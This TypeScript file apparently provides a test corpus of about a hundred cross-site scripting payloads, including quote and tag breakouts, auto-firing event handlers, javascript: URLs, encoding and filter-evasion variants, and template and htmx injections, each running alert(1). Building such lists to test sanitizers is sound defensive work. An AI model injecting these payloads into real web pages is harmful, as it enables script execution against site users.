const CALL = 'alert(1)';

/** Ways out of a text, an attribute, an element without markup, a comment, or an address. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</svg>',
  '</option></select>',
  '-->',
  ']]>',
  '</a>',
];

/** Elements that run something without being clicked. */
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<details open ontoggle=${CALL}>`,
];

const OTHERS = [
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script src=//127.0.0.1:9/x.js></script>`,
  `<script/x>${CALL}</script>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<body onload=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<object data="javascript:${CALL}">`,
  `<embed src="javascript:${CALL}">`,
  `<iframe src="javascript:${CALL}">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<isindex type=image src=1 onerror=${CALL}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<link rel=stylesheet href=//127.0.0.1:9/x.css>`,
  `<base href="//127.0.0.1:9/">`,
  `<style>@import "//127.0.0.1:9/x.css";</style>`,
  `<div style="background:url(javascript:${CALL})">`,
  `<marquee onstart=${CALL}>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `" autofocus onfocus=${CALL} x="`,
  `' autofocus onfocus=${CALL} x='`,
  `" onmouseover=${CALL} style=position:fixed;inset:0 x="`,
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `＜script＞${CALL}＜/script＞`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `hx-on:load=${CALL}`,
  `<p hx-get="/x" hx-trigger="load" hx-on:htmx:after:swap="${CALL}">`,
  `<p data-hx-on:click="${CALL}" autofocus>`,
];

/** About a hundred texts that would run a script on a page that let them; each is a single line. */
export const payloads: readonly string[] = [
  ...BREAKOUTS.flatMap((breakout) => ELEMENTS.map((element) => breakout + element)),
  ...OTHERS,
];
